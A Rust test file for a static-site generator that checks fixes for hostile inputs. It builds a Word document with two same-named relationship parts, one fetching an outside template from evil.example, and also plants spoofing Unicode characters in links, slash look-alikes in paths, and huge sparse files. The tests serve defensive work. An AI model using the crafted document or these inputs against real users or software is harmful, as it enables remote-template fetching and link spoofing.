//! The hostile-input and careless-input findings fixed in the eighteenth
//! round.

mod common;

use common::office::{package, site_linking};
use common::{Site, message_at, tree};

const SIGNS: &str = "guidance/handbook/02-signs.en.md";
const ZIP: &str = "download/test-guidance-en.zip";

/// A Word document with the same relationships part twice: one with an
/// outside template (Word fetches it on opening), one with none. The zip
/// reader keeps one of the two, a program may open the other.
fn docx_with_two_settings_rels(outside_first: bool) -> Vec<u8> {
    let plain =
        "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"/>";
    let remote = "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>";
    let (first, second) = match outside_first {
        true => (remote, plain),
        false => (plain, remote),
    };
    let document = "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p/></w:body></w:document>";
    let parts = [
        ("word/document.xml", document),
        ("word/_rels/settings.xml.rels", first),
    ];
    // The zip writer refuses a second part of one name: the second is
    // written under a name of the same length, then renamed in the bytes
    // (in its local header and in the central directory).
    let mut bytes = package(&[parts[0], parts[1], ("word/_rels/settings.xml.relz", second)]);
    let (from, to) = (b"settings.xml.relz", b"settings.xml.rels");
    let mut i = 0;
    while let Some(at) = bytes[i..].windows(from.len()).position(|w| w == from) {
        bytes[i + at..i + at + to.len()].copy_from_slice(to);
        i += at + to.len();
    }
    bytes
}

/// A document's parts were read by a zip reader that keeps the last part
/// of each name: a `.docx` holding an outside template in the first of
/// two `word/_rels/settings.xml.rels` was published, though a program
/// that opens the first fetches the template. Now a document with two
/// parts of one name, in either order, is not published (an error naming
/// it), the previous output left as it was; the same document with the
/// template only in a part of another name is refused for the template,
/// and a plain one is published.
#[test]
fn an_office_document_with_two_parts_of_one_name_is_not_published() {
    for outside_first in [true, false] {
        let (site, before) =
            site_linking("report.docx", &docx_with_two_settings_rels(outside_first));
        let o = site.build();
        assert_eq!(o.code, 1, "{}", o.stderr);
        let (line, hint) = message_at(&o.stderr, "guidance/handbook/report.docx");
        assert!(
            line.ends_with("error: not published: cannot check what the document fetches or runs when opened, or who wrote it: it holds two parts of the same name, and programs differ on which one they open"),
            "{line}"
        );
        assert!(
            hint.starts_with("open it in the program that made it and save it again"),
            "{hint}"
        );
        assert_eq!(tree(&site.out()), before, "the output changed");
    }
    // Not a false alarm: one part of each name is published.
    let plain = common::office::plain_docx();
    let (site, _) = site_linking("report.docx", &plain);
    let o = site.build_ok();
    assert!(!o.stderr.contains("report.docx"), "{}", o.stderr);
    assert!(site.out().join("en/handbook/report.docx").exists());
}

/// A direction override or a zero-width space in a `mailto:` or `tel:`
/// link was said to hide in "the address shown after the link in print",
/// though print pages show a web address after its link and never an
/// e-mail address or a phone number. Now the message says who shows it:
/// the mail program, the phone; a web link's message is unchanged.
#[test]
fn a_hidden_character_in_a_mail_or_phone_link_is_said_where_it_shows() {
    let site = Site::signs_with(
        "[a](mailto:help\u{202e}@example.org)\n\n[b](tel:+254\u{202e}700)\n\n[c](mailto:help\u{200b}@example.org)\n\n[d](TEL:+254\u{200b}700)\n\n[e](https://example.org/\u{200b}form)\n",
    );
    let o = site.build();
    assert_eq!(o.code, 1, "{}", o.stderr);
    let at = |l: u32| message_at(&o.stderr, &format!("{SIGNS}:{l}:1")).0;
    assert!(
        at(13).ends_with("error: this link's address holds U+202E, which reorders the address where it is shown (a mail program shows it when the link is opened)"),
        "{}",
        at(13)
    );
    assert!(
        at(15).ends_with("error: this link's address holds U+202E, which reorders the address where it is shown (a phone shows it before it calls)"),
        "{}",
        at(15)
    );
    assert!(
        at(17).ends_with("warning: this link's address holds U+200B, which takes no room on screen: the address a mail program shows looks like one without it"),
        "{}",
        at(17)
    );
    assert!(
        at(19).ends_with("warning: this link's address holds U+200B, which takes no room on screen: the address a phone shows looks like one without it"),
        "{}",
        at(19)
    );
    assert!(
        at(21).ends_with("warning: this link's address holds U+200B, which takes no room on screen: the address shown after the link in print looks like one without it"),
        "{}",
        at(21)
    );
    for l in [13, 15, 17, 19] {
        assert!(!at(l).contains("print"), "{}", at(l));
    }
    // What the message says: print pages show no e-mail address or phone
    // number after the link.
    let css = std::fs::read_to_string(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("templates/static/print.css"),
    )
    .unwrap();
    assert!(css.contains("a.external:not([href^=\"mailto:\"]):not([href^=\"tel:\"])::after"));
}

/// A `site.yaml` that is a link (here to a file beside it, in the site)
/// was refused with the hint "run fieldguide in a site folder, pass
/// --source DIR, or create one with `fieldguide new DIR`", though the
/// folder is a site; a folder named `site.yaml` likewise. Now the hint
/// says to put the file itself there; a folder with no `site.yaml` keeps
/// the old hint.
#[cfg(unix)]
#[test]
fn a_site_yaml_that_is_no_file_is_told_what_to_put_there() {
    let site = Site::fixture("basic");
    site.build_ok();
    let before = tree(&site.out());
    let yaml = site.path().join("site.yaml");
    std::fs::rename(&yaml, site.path().join("settings.yaml")).unwrap();
    std::os::unix::fs::symlink("settings.yaml", &yaml).unwrap();
    let o = site.build();
    assert_eq!(o.code, 1, "{}", o.stderr);
    let (line, hint) = message_at(&o.stderr, "site.yaml");
    assert!(line.contains("is a symbolic link"), "{line}");
    assert_eq!(
        hint,
        "put the file itself at site.yaml in place of the link: fieldguide never reads site.yaml through a link"
    );
    assert_eq!(tree(&site.out()), before, "the output changed");

    std::fs::remove_file(&yaml).unwrap();
    std::fs::create_dir(&yaml).unwrap();
    let o = site.build();
    assert_eq!(o.code, 1, "{}", o.stderr);
    let (_, hint) = message_at(&o.stderr, "site.yaml");
    assert_eq!(
        hint,
        "site.yaml must be a plain file: move what is there away and write site.yaml in its place"
    );

    std::fs::remove_dir(&yaml).unwrap();
    let o = site.build();
    assert_eq!(o.code, 1, "{}", o.stderr);
    let (_, hint) = message_at(&o.stderr, "site.yaml");
    assert_eq!(
        hint,
        "run fieldguide in a site folder, pass --source DIR, or create one with `fieldguide new DIR`"
    );
}

/// A path written with a character that looks like `/` (the division
/// slash U+2215, the full-width slash of East Asian keyboards U+FF0F) is
/// one file name: `..∕..∕notes.txt` was told that hidden files (a name
/// starting with `.`) are never read, and `forms／referral.txt` nothing.
/// Now each is told which character only looks like `/`, with the path to
/// write when the file is there; a missing file named without one is not.
#[test]
fn a_path_written_with_a_slash_look_alike_is_told_to_use_slashes() {
    let site = Site::signs_with(
        "[a](..\u{2215}..\u{2215}notes.txt)\n\n[b](forms\u{ff0f}referral.txt)\n\n[c](forms/referal.txt)\n",
    );
    site.write("guidance/handbook/forms/referral.txt", "Referral form.\n");
    let o = site.build();
    assert_eq!(o.code, 1, "{}", o.stderr);
    let (_, hint) = message_at(&o.stderr, &format!("{SIGNS}:13:1"));
    assert_eq!(
        hint,
        "`\u{2215}` (U+2215) only looks like `/`: write `/` between folders"
    );
    let (_, hint) = message_at(&o.stderr, &format!("{SIGNS}:15:1"));
    assert_eq!(
        hint,
        "`\u{ff0f}` (U+FF0F) only looks like `/`: write `/` between folders: `forms/referral.txt`"
    );
    assert!(
        o.stderr
            .contains(&format!("{SIGNS}:17:1: error: link to a missing file")),
        "{}",
        o.stderr
    );
    assert_eq!(
        o.stderr.matches("only looks like").count(),
        2,
        "{}",
        o.stderr
    );
}

/// A file of another length where the build writes a language's zip was
/// read whole to learn that it differs: a sparse file of 256 GB planted
/// at `download/test-guidance-en.zip` (it takes no room on the disk) made
/// a build after an edit read 256 GB of zeros, minutes for a build of
/// milliseconds. Now the lengths are compared first; the output is still
/// a fresh build's.
///
/// The same at the whole site's zip, whose entries a rebuild reuses: the
/// earlier zip was hashed whole to know it is the one the last build made,
/// before its length was looked at.
#[test]
fn a_huge_file_planted_where_a_zip_goes_is_not_read() {
    for zip in [ZIP, "download/test-guidance.zip"] {
        huge_file_planted_at_a_zip(zip);
    }
}

fn huge_file_planted_at_a_zip(zip: &str) {
    let site = Site::fixture("basic");
    site.build_ok();
    let page = std::fs::File::create(site.out().join(zip)).unwrap();
    page.set_len(256 << 30).unwrap();
    drop(page);
    let signs = site.read(SIGNS);
    site.write(SIGNS, format!("{signs}\nOne more line.\n"));
    let o = assert_cmd::Command::cargo_bin("fieldguide")
        .unwrap()
        .args(["build", "--source"])
        .arg(site.path())
        .timeout(std::time::Duration::from_secs(30))
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0), "killed after 30 s, or failed");
    let fresh = Site::fixture("basic");
    fresh.write(SIGNS, format!("{signs}\nOne more line.\n"));
    fresh.build_ok();
    let (got, want) = (tree(&site.out()), tree(&fresh.out()));
    assert_eq!(got[zip], want[zip], "{zip}");
    assert_eq!(
        got.keys().collect::<Vec<_>>(),
        want.keys().collect::<Vec<_>>()
    );
}

/// A build with nothing to build hashed every file it had written, to
/// know that each still holds its bytes: a sparse file of 256 GB planted
/// at a page's name (it takes no room on the disk) made it read 256 GB of
/// zeros, minutes for a build of milliseconds. The manifest now records
/// each file's length, compared before the file is read: the build runs,
/// and its output is a fresh build's.
#[test]
fn a_huge_file_planted_at_a_page_is_not_read_when_nothing_changed() {
    let site = Site::fixture("basic");
    site.build_ok();
    let page = "en/handbook/signs.html";
    let f = std::fs::OpenOptions::new()
        .write(true)
        .open(site.out().join(page))
        .unwrap();
    f.set_len(256 << 30).unwrap();
    drop(f);
    let o = assert_cmd::Command::cargo_bin("fieldguide")
        .unwrap()
        .args(["build", "--source"])
        .arg(site.path())
        .timeout(std::time::Duration::from_secs(30))
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0), "killed after 30 s, or failed");
    let fresh = Site::fixture("basic");
    fresh.build_ok();
    let (mut got, mut want) = (tree(&site.out()), tree(&fresh.out()));
    // The manifests differ only in what their builds said (the rebuild
    // replaced a file); every published file is the fresh build's.
    got.remove(".fieldguide-output");
    want.remove(".fieldguide-output");
    assert_eq!(
        got.keys().collect::<Vec<_>>(),
        want.keys().collect::<Vec<_>>()
    );
    assert!(got == want, "a file differs from a fresh build's");
    // And with nothing planted, a build after it writes nothing.
    let o = site.build_ok();
    assert!(
        o.stderr.contains("nothing changed since the last build"),
        "{}",
        o.stderr
    );
}

/// A page the last build wrote and this one does not is moved aside only
/// while it still holds what was written; to know, the commit read the
/// whole file into memory. A sparse file of 256 GB at that page's name
/// (after its source was removed) made the build try to hold 256 GB. Now
/// the manifest records each file's length, and a file of another length
/// is swept away as planted without being read.
#[test]
fn a_huge_file_at_a_stale_page_is_not_read() {
    let site = Site::fixture("basic");
    site.build_ok();
    let manifest = std::fs::read_to_string(site.out().join(".fieldguide-output")).unwrap();
    assert!(
        manifest
            .lines()
            .any(|l| l.ends_with(" en/handbook/signs.html") && l.contains(':')),
        "{manifest}"
    );
    std::fs::remove_file(site.path().join(SIGNS)).unwrap();
    // Other pages link to it: published as their text.
    let yaml = site.read("site.yaml");
    site.write("site.yaml", format!("{yaml}broken_links: warning\n"));
    let f = std::fs::OpenOptions::new()
        .write(true)
        .open(site.out().join("en/handbook/signs.html"))
        .unwrap();
    f.set_len(256 << 30).unwrap();
    drop(f);
    let o = assert_cmd::Command::cargo_bin("fieldguide")
        .unwrap()
        .args(["build", "--source"])
        .arg(site.path())
        .timeout(std::time::Duration::from_secs(30))
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0), "killed after 30 s, or failed");
    assert!(!site.out().join("en/handbook/signs.html").exists());
}
